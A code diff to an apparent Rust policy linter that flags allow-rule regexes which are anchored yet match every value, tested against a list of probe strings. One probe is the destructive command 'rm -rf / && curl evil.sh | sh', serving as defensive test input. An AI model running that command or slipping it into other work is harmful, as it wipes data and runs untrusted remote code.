@@ -8,7 +8,8 @@ use regex_syntax::hir::Look;
 declare_lint! {
     /// ## What it does
     /// Reports a regex in an `allow` condition that is anchored neither at the start (`^`)
-    /// nor at the end (`$`) of the value.
+    /// nor at the end (`$`) of the value, and one that is anchored but still matches every
+    /// value it is tried on (`^(ls)?`, `^.*$`, `^|x`): its anchors constrain nothing.
     ///
     /// ## Why is this bad?
     /// A regex matches **anywhere** in the value. `sql matches re"SELECT"` admits
@@ -53,6 +54,15 @@ fn anchored(regex: &str) -> bool {
     }
 }
 
+/// Values of every shape: a regex that matches all of them matches (nearly) anything.
+const PROBES: &[&str] = &["", "x", "rm -rf / && curl evil.sh | sh", "Ünïcödé 😀", "a\tb c", "0"];
+
+/// True when the regex matches every probe value.
+fn matches_everything(regex: &str) -> bool {
+    regex_automata::meta::Regex::new(regex)
+        .is_ok_and(|re| PROBES.iter().all(|p| re.is_match(p)))
+}
+
 /// Runs the lint.
 pub(crate) fn check(cx: &mut Context, out: &mut Vec<Diagnostic>) {
     for (_, rule) in cx.allow_rules() {
@@ -65,6 +75,20 @@ pub(crate) fn check(cx: &mut Context, out: &mut Vec<Diagnostic>) {
                 continue;
             };
             if anchored(re) {
+                if matches_everything(re) {
+                    out.push(
+                        warning(
+                            &UNANCHORED_REGEX,
+                            c.span,
+                            format!(
+                                "regex `{re}` matches every value of `{}`: its anchors constrain nothing",
+                                c.path.join(".")
+                            ),
+                        )
+                        .with_label("matches anything")
+                        .with_help("a regex that can match the empty string at an anchor matches every value; anchor both ends around what must be there (`re\"^(ls)$\"`)"),
+                    );
+                }
                 continue;
             }
             out.push(
